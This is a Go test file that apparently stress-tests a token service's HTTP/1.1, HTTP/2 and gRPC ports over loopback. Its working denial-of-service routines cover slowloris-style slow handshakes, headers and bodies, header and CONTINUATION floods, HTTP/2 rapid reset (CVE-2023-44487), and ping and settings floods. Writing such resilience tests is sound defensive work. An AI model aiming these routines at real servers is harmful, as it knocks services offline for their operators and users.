package ports_test

import (
	"bytes"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"os"
	"strings"
	"sync"
	"sync/atomic"
	"time"

	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"
)

// hostile is a process that attacks a port until it is killed. It runs the binary of this test.
type hostile struct {
	target, wire string
	// sources counts the loopback addresses that were used in turn.
	sources atomic.Int64
	// done counts its actions; the attack is under way once there are enough.
	done, wanted atomic.Int64
}

// The wires that are attacked.
const (
	onHTTP1 = "HTTP/1.1"
	onHTTP2 = "HTTP/2"
	onGRPC  = "gRPC"
)

// attacks maps an attack to its implementation on each transport. Connections that the server closes are opened again.
var attacks = map[string]map[string]func(*hostile){
	// 10,000 connections on which one request was made, and then none.
	"idle connections": {
		onHTTP1: func(h *hostile) { h.idle(10_000, h.request1) }, onGRPC: func(h *hostile) { h.idle(10_000, h.preface) },
	},
	// 300 connections whose TLS handshake stops after its beginning.
	"slow handshakes": {
		onHTTP1: func(h *hostile) { h.keep(300, h.slowHandshake) }, onGRPC: func(h *hostile) { h.keep(300, h.slowHandshake) },
	},
	// 300 connections on which the header of a request arrives at one byte a second.
	"slow headers": {
		onHTTP1: func(h *hostile) { h.keep(300, h.slow1("POST /connect/token HTTP/1.1\r\nHost: localhost\r\nX-A: ")) },
		onHTTP2: func(h *hostile) { h.keep(300, h.slowHeaders2) }, onGRPC: func(h *hostile) { h.keep(300, h.slowHeaders2) },
	},
	// 300 connections, with 20 streams each where there are streams, on which the body arrives at one byte a second.
	"slow bodies": {
		onHTTP1: func(h *hostile) {
			h.keep(300, h.slow1("POST /connect/token HTTP/1.1\r\nHost: localhost\r\n"+
				"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: 1000\r\n\r\n"))
		},
		onHTTP2: func(h *hostile) { h.keep(300, h.slowBodies2) }, onGRPC: func(h *hostile) { h.keep(300, h.slowBodies2) },
	},
	// 200 a second of requests with 1 MiB of header, or 1,000 frames of 16 KiB of a header that never ends.
	"header floods": {
		onHTTP1: func(h *hostile) { h.keep(10, h.pacedRequests(20)) },
		onHTTP2: func(h *hostile) { h.keep(10, h.continuations(100)) }, onGRPC: func(h *hostile) { h.keep(10, h.continuations(100)) },
	},
	// 1,000 requests a second that are reset at once (CVE-2023-44487).
	"rapid reset": {
		onHTTP2: func(h *hostile) { h.keep(10, h.frames(100, reset)) }, onGRPC: func(h *hostile) { h.keep(10, h.frames(100, reset)) },
	},
	// 1,000 a second.
	"ping floods": {
		onHTTP2: func(h *hostile) { h.keep(10, h.frames(100, ping)) }, onGRPC: func(h *hostile) { h.keep(10, h.frames(100, ping)) },
	},
	"settings floods": {
		onHTTP2: func(h *hostile) { h.keep(10, h.frames(100, settingsFrame)) }, onGRPC: func(h *hostile) { h.keep(10, h.frames(100, settingsFrame)) },
	},
}

// attack runs the attack that the environment names. It prints "ready" once it has begun.
func attack(name string) {
	h := &hostile{target: os.Getenv("ATTACK_TARGET"), wire: os.Getenv("ATTACK_WIRE")}
	go func() {
		for wanted := h.wanted.Load(); wanted == 0 || h.done.Load() < wanted; wanted = h.wanted.Load() {
			time.Sleep(10 * time.Millisecond)
		}
		_, _ = fmt.Println("ready")
		_, _ = io.Copy(io.Discard, os.Stdin) // ends with the test
		os.Exit(0)
	}()
	attacks[name][h.wire](h)
}

// dial opens a connection, from a few addresses in turn.
func (h *hostile) dial() (net.Conn, error) {
	const sources = 10
	source := net.IPv4(127, 0, 2, byte(1+h.sources.Add(1)%sources))
	dialer := &net.Dialer{LocalAddr: &net.TCPAddr{IP: source}, Timeout: 20 * time.Second}
	return dialer.Dial("tcp", h.target)
}

// secure adds TLS to a connection, with the protocol of the transport.
func (h *hostile) secure(conn net.Conn) net.Conn {
	protocols := map[string][]string{onHTTP1: {"http/1.1"}, onHTTP2: {"h2"}, onGRPC: {"h2"}}[h.wire]
	return tls.Client(conn, &tls.Config{InsecureSkipVerify: true, NextProtos: protocols, MinVersion: tls.VersionTLS12})
}

// keep does something on n connections, again whenever one ends. They begin within two seconds, so that the handshakes
// are not what is measured.
func (h *hostile) keep(n int, do func(net.Conn) error) {
	h.wanted.Store(int64(n))
	var running sync.WaitGroup
	for i := range n {
		running.Go(func() {
			time.Sleep(time.Duration(i) * 2 * time.Second / time.Duration(n))
			for {
				if conn, err := h.dial(); err == nil {
					_ = do(conn)
					_ = conn.Close()
				}
				time.Sleep(200 * time.Millisecond)
			}
		})
	}
	running.Wait()
}

// idle opens n connections, in plaintext, and leaves them idle.
func (h *hostile) idle(n int, begin func(net.Conn) error) {
	h.wanted.Store(1)
	open := make([]net.Conn, 0, n)
	for len(open) < n {
		conn, err := h.dial()
		if err == nil {
			err = begin(conn)
		}
		if err != nil {
			_, _ = fmt.Println(err)
			os.Exit(1)
		}
		open = append(open, conn)
	}
	h.done.Add(1)
	select {}
}

func (h *hostile) request1(conn net.Conn) error {
	if _, err := io.WriteString(conn, "GET /.well-known/jwks.json HTTP/1.1\r\nHost: localhost\r\n\r\n"); err != nil {
		return err
	}
	_, err := conn.Read(make([]byte, 4096))
	return err
}

func (h *hostile) preface(conn net.Conn) error {
	_, err := h.open2(conn)
	return err
}

func (h *hostile) slowHandshake(conn net.Conn) error {
	if _, err := conn.Write([]byte{22, 3, 1}); err != nil {
		return err
	}
	h.done.Add(1)
	_, err := io.Copy(io.Discard, conn)
	return err
}

// drip writes a byte per second.
func (h *hostile) drip(write func() error) error {
	for {
		if err := write(); err != nil {
			return err
		}
		h.done.Add(1)
		time.Sleep(time.Second)
	}
}

func (h *hostile) slow1(begin string) func(net.Conn) error {
	return func(conn net.Conn) error {
		conn = h.secure(conn)
		if _, err := io.WriteString(conn, begin); err != nil {
			return err
		}
		go func() { _, _ = io.Copy(io.Discard, conn); _ = conn.Close() }()
		return h.drip(func() error { _, err := conn.Write([]byte("a")); return err })
	}
}

// open2 begins HTTP/2, and reads what the server says.
func (h *hostile) open2(conn net.Conn) (*http2.Framer, error) {
	if _, err := io.WriteString(conn, http2.ClientPreface); err != nil {
		return nil, err
	}
	framer := http2.NewFramer(conn, bytes.NewReader(nil))
	return framer, framer.WriteSettings()
}

func (h *hostile) secure2(conn net.Conn) (*http2.Framer, error) {
	conn = h.secure(conn)
	framer, err := h.open2(conn)
	go func() { _, _ = io.Copy(io.Discard, conn); _ = conn.Close() }()
	return framer, err
}

// header is that of a request for a token.
func (h *hostile) header() []byte {
	var block bytes.Buffer
	encoder := hpack.NewEncoder(&block)
	path, kind := "/connect/token", "application/x-www-form-urlencoded"
	if h.wire == onGRPC {
		path, kind = "/grantor.v1.TokenService/IssueToken", "application/grpc"
	}
	for _, field := range [][2]string{
		{":method", "POST"}, {":scheme", "https"}, {":path", path}, {":authority", "localhost"}, {"content-type", kind}, {"te", "trailers"},
	} {
		_ = encoder.WriteField(hpack.HeaderField{Name: field[0], Value: field[1], Sensitive: true}) // kept in no table
	}
	return block.Bytes()
}

func (h *hostile) slowHeaders2(conn net.Conn) error {
	framer, err := h.secure2(conn)
	if err != nil {
		return err
	}
	if err := framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: h.header()}); err != nil {
		return err
	}
	return h.drip(func() error { return framer.WriteContinuation(1, false, nil) })
}

func (h *hostile) slowBodies2(conn net.Conn) error {
	framer, err := h.secure2(conn)
	if err != nil {
		return err
	}
	const streams = 20
	for i := range uint32(streams) {
		if err := framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 2*i + 1, BlockFragment: h.header(), EndHeaders: true}); err != nil {
			return err
		}
	}
	return h.drip(func() error { return framer.WriteData(1, false, []byte{0}) })
}

// paced does something so often a second until it fails.
func (h *hostile) paced(perSecond int, do func(n int) error) error {
	began := time.Now()
	for n := 0; ; n++ {
		if err := do(n); err != nil {
			return err
		}
		h.done.Add(1)
		time.Sleep(time.Until(began.Add(time.Duration(n+1) * time.Second / time.Duration(perSecond))))
	}
}

func (h *hostile) pacedRequests(perSecond int) func(net.Conn) error {
	head := "POST /connect/token HTTP/1.1\r\nHost: localhost\r\n" + strings.Repeat("X-Flood: "+strings.Repeat("a", 1000)+"\r\n", 1000) + "\r\n"
	return func(conn net.Conn) error {
		conn = h.secure(conn)
		go func() { _, _ = io.Copy(io.Discard, conn); _ = conn.Close() }()
		return h.paced(perSecond, func(int) error { _, err := io.WriteString(conn, head); return err })
	}
}

func (h *hostile) continuations(perSecond int) func(net.Conn) error {
	fragment := bytes.Repeat([]byte{0x00, 0x01, 'a', 0x00}, 4000) // the field "a" without a value, again and again
	return func(conn net.Conn) error {
		framer, err := h.secure2(conn)
		if err != nil {
			return err
		}
		if err := framer.WriteHeaders(http2.HeadersFrameParam{StreamID: 1, BlockFragment: h.header()}); err != nil {
			return err
		}
		return h.paced(perSecond, func(int) error { return framer.WriteContinuation(1, false, fragment) })
	}
}

// frames sends frames of one kind.
func (h *hostile) frames(perSecond int, write func(h *hostile, f *http2.Framer, n int) error) func(net.Conn) error {
	return func(conn net.Conn) error {
		framer, err := h.secure2(conn)
		if err != nil {
			return err
		}
		return h.paced(perSecond, func(n int) error { return write(h, framer, n) })
	}
}

func reset(h *hostile, f *http2.Framer, n int) error {
	stream := uint32(2*n + 1)
	if err := f.WriteHeaders(http2.HeadersFrameParam{StreamID: stream, BlockFragment: h.header(), EndHeaders: true}); err != nil {
		return err
	}
	return f.WriteRSTStream(stream, http2.ErrCodeCancel)
}

func ping(_ *hostile, f *http2.Framer, _ int) error { return f.WritePing(false, [8]byte{}) }

func settingsFrame(_ *hostile, f *http2.Framer, n int) error {
	return f.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: uint32(1000 + n%1000)})
}
